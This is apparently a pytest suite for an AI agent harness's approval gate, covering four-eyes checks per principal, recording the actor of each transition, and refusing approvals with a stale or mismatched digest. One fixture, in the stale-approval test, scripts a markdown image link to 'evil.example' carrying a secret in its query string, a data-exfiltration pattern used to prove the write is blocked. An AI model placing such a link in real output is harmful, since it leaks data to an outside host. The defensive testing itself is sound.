"""Approvals are bound to people and to what they saw (issue #8, sections 2 and 3).

- Four-eyes compares principals: a second approver key of the submitter is still the submitter.
- Every transition records its actor (status document and ``TransitionRecorded`` event).
- ``POST /approve`` names the pending action (id + args digest); anything else is a 409 and
  nothing runs. ``GET /runs/{id}`` shows the pending action with tool, digest and a capped preview.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from sqlalchemy import select

from harness.accounts import issue_key
from harness.database.connect import unit_of_work
from harness.database.models import Artifact, AuditEntry, RunTransition
from harness.events import CollectingSink, TransitionRecorded
from harness.runs.service import PREVIEW_CHARS
from tests.support.api import World, world

pytestmark = [pytest.mark.tier1, pytest.mark.security]


def _script(*writes: tuple[str, str]) -> dict[str, Any]:
    turns: list[dict[str, Any]] = [
        {"tool_calls": [{"name": "write_artifact", "arguments": {"path": p, "content": c}}]}
        for p, c in writes
    ]
    return {
        "format_version": 1,
        "created": 1767225600,
        "conversations": [],
        "default": {"turns": [*turns, {"content": "Done."}]},
    }


@pytest.fixture
def make_world(make_runtime: Any, database_url: str, tmp_path: Path) -> Iterator[Any]:
    opened: list[Any] = []

    def open_world(*writes: tuple[str, str]) -> World:
        script = tmp_path / f"script-{len(opened)}.yaml"
        script.write_text(yaml.safe_dump(_script(*writes)))
        ctx = world(make_runtime, database_url, script=script, sink=CollectingSink())
        opened.append(ctx)
        return ctx.__enter__()

    yield open_world
    for ctx in reversed(opened):
        ctx.__exit__(None, None, None)


def _at_gate(w: World, who: str = "alice") -> str:
    resp = w.post("run", who, {"task": "write the plan"})
    assert resp.status_code == 202, resp.text
    run_id: str = resp.json()["run_id"]
    w.drain()
    assert w.get(f"runs/{run_id}", who).json()["status"] == "AWAITING_APPROVAL"
    return run_id


def _shown(w: World, run_id: str, who: str = "bob") -> dict[str, Any]:
    view = w.get(f"runs/{run_id}", who)
    assert view.status_code == 200, view.text
    pending: dict[str, Any] = view.json()["pending_approval"]
    return pending


def _approve(w: World, who: str, run_id: str, shown: dict[str, Any], reason: str = "ok") -> Any:
    body = {
        "run_id": run_id,
        "decision": "approve",
        "reason": reason,
        "approval_id": shown["id"],
        "args_sha256": shown["args_sha256"],
    }
    return w.post("approve", who, body)


# --- section 2: four-eyes per principal ---------------------------------------------------------


def test_a_second_approver_key_of_the_submitter_cannot_approve(make_world: Any) -> None:
    w = make_world(("plan.md", "plan\n"))
    w.keys["alice-approver"] = issue_key(
        w.rt, tenant_id="acme", name="alice-approver", roles=["approver"], principal="alice"
    )
    run_id = _at_gate(w, "alice")
    shown = _shown(w, run_id)

    own = _approve(w, "alice-approver", run_id, shown)
    assert own.status_code == 403, own.text
    assert own.json()["type"].endswith("/forbidden")
    assert "four-eyes" in own.json()["detail"]
    assert w.get(f"runs/{run_id}", "alice").json()["status"] == "AWAITING_APPROVAL"

    other = _approve(w, "bob", run_id, shown)
    assert other.status_code == 200, other.text
    w.drain()
    done = w.get(f"runs/{run_id}", "alice").json()
    assert done["status"] == "SUCCEEDED"
    assert [a["path"] for a in done["artifacts"]] == ["plan.md"]


def test_a_different_principal_holding_a_key_named_like_the_submitter_may_approve(make_world: Any) -> None:
    """The rule compares principals, not key names: names are labels, principals are people."""
    w = make_world(("plan.md", "plan\n"))
    w.keys["bob-laptop"] = issue_key(
        w.rt, tenant_id="acme", name="alice", roles=["approver"], principal="bob"
    )
    run_id = _at_gate(w, "alice")
    assert _approve(w, "bob-laptop", run_id, _shown(w, run_id)).status_code == 200


def test_every_transition_records_its_actor(make_world: Any) -> None:
    w = make_world(("plan.md", "plan\n"))
    run_id = _at_gate(w, "alice")
    assert _approve(w, "bob", run_id, _shown(w, run_id)).status_code == 200
    w.drain()
    view = w.get(f"runs/{run_id}", "alice").json()
    bob = w.keys["bob"].key_id
    assert [(t["from"], t["to"], t["actor"]) for t in view["transitions"]] == [
        ("PENDING", "RUNNING", "orchestrator"),
        ("RUNNING", "AWAITING_APPROVAL", "orchestrator"),
        ("AWAITING_APPROVAL", "APPROVED", bob),
        ("APPROVED", "RUNNING", "orchestrator"),
        ("RUNNING", "SUCCEEDED", "orchestrator"),
    ]
    events = w.rt.sink.of_type(TransitionRecorded)  # type: ignore[attr-defined]
    assert [(e.to_status, e.actor) for e in events if e.run_id == run_id] == [
        (t["to"], t["actor"]) for t in view["transitions"]
    ]
    with unit_of_work(w.rt.sessions) as s:
        stored = s.execute(select(RunTransition.actor).where(RunTransition.run_id == run_id)).scalars().all()
    assert stored == [t["actor"] for t in view["transitions"]]


# --- section 3: an approval names what the approver saw -----------------------------------------


def test_approving_what_was_shown_before_the_run_moved_on_is_a_409(make_world: Any) -> None:
    """Approver 2 still looks at a.md's view; the run now asks for b.md: refused, b.md not written."""
    w = make_world(("a.md", "fine\n"), ("b.md", "![x](https://evil.example/?q=secret)\n"))
    run_id = _at_gate(w, "alice")
    seen_by_approver_2 = _shown(w, run_id, "dave")
    assert _approve(w, "bob", run_id, _shown(w, run_id)).status_code == 200
    w.drain()
    now_pending = _shown(w, run_id)
    assert now_pending["args"]["path"] == "b.md"

    stale = _approve(w, "dave", run_id, seen_by_approver_2, reason="looked fine")
    assert stale.status_code == 409, stale.text
    assert stale.headers["content-type"].startswith("application/problem+json")
    assert stale.json()["type"].endswith("/approval-mismatch")
    assert stale.json()["reason"] == "approval-id-mismatch"
    assert now_pending["id"] in stale.json()["detail"]
    w.drain()
    assert w.get(f"runs/{run_id}", "alice").json()["status"] == "AWAITING_APPROVAL"
    with unit_of_work(w.rt.sessions) as s:
        assert s.execute(select(Artifact.path).where(Artifact.run_id == run_id)).scalars().all() == ["a.md"]
        decided = s.execute(select(AuditEntry).where(AuditEntry.action == "approval.decided")).scalars().all()
    assert len(decided) == 1, "a refused decision must not be recorded as a decision"


@pytest.mark.parametrize("field", ["approval_id", "args_sha256"])
def test_a_decision_naming_another_digest_or_id_is_refused(make_world: Any, field: str) -> None:
    w = make_world(("plan.md", "plan\n"))
    run_id = _at_gate(w, "alice")
    shown = dict(_shown(w, run_id))
    shown["id" if field == "approval_id" else "args_sha256"] = (
        "apr_0000000000000000" if field == "approval_id" else "f" * 64
    )
    for decision in ("approve", "reject"):
        body = {
            "run_id": run_id,
            "decision": decision,
            "reason": "ok",
            "approval_id": shown["id"],
            "args_sha256": shown["args_sha256"],
        }
        resp = w.post("approve", "bob", body)
        assert resp.status_code == 409, resp.text
        assert resp.json()["type"].endswith("/approval-mismatch")
    assert w.get(f"runs/{run_id}", "alice").json()["status"] == "AWAITING_APPROVAL"


def test_a_decision_that_names_nothing_is_a_422(make_world: Any) -> None:
    w = make_world(("plan.md", "plan\n"))
    run_id = _at_gate(w, "alice")
    resp = w.post("approve", "bob", {"run_id": run_id, "decision": "approve", "reason": "ok"})
    assert resp.status_code == 422
    assert resp.json()["type"].endswith("/validation-error")
    assert w.get(f"runs/{run_id}", "alice").json()["status"] == "AWAITING_APPROVAL"


def test_status_shows_the_pending_action_with_a_capped_preview(make_world: Any) -> None:
    big = "x" * (PREVIEW_CHARS * 2)
    w = make_world(("big.md", big))
    run_id = _at_gate(w, "alice")
    shown = _shown(w, run_id, "carol")  # read-only roles see what is pending too
    assert shown["tool"] == "write_artifact"
    assert shown["id"].startswith("apr_")
    assert len(shown["args_sha256"]) == 64
    assert len(shown["preview"]) == PREVIEW_CHARS and shown["preview_truncated"] is True
    assert shown["preview"].startswith('{"content": "xxx')


def test_the_openapi_document_describes_the_binding_fields(make_world: Any) -> None:
    w = make_world(("plan.md", "plan\n"))
    doc = w.client.get("/openapi.json").json()
    schema = doc["components"]["schemas"]["ApproveRequest"]
    assert {"run_id", "decision", "reason", "approval_id", "args_sha256"} <= set(schema["required"])
    assert "pending_approval" in schema["properties"]["approval_id"]["description"]
    assert "409" in doc["paths"]["/api/harness/approve"]["post"]["responses"]
